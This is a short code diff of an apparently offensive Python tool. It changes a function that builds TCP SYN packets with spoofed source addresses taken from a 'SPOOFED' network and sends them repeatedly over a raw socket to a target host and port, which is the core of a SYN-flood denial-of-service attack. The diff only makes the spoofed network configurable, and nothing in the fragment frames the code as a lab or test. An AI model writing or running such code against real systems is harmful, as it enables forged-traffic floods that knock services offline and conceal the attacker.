@@ -18,9 +18,11 @@ def send(destination: str, port: int, count: int) -> None:
         send_one(destination, port, number, count)
 
 
-def send_one(destination: str, port: int, number: int, senders: int) -> None:
-    """Send the SYN of that number, which `senders` addresses send in turn."""
-    source = IPv4Network(SPOOFED)[1 + number % senders].packed
+def send_one(
+    destination: str, port: int, number: int, senders: int, network: str = SPOOFED
+) -> None:
+    """Send the SYN of that number, which `senders` addresses of a network send in turn."""
+    source = IPv4Network(network)[1 + number % senders].packed
     packet = _packet(source, destination, 1024 + number % 60000, port)
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
         raw.sendto(packet, (destination, 0))
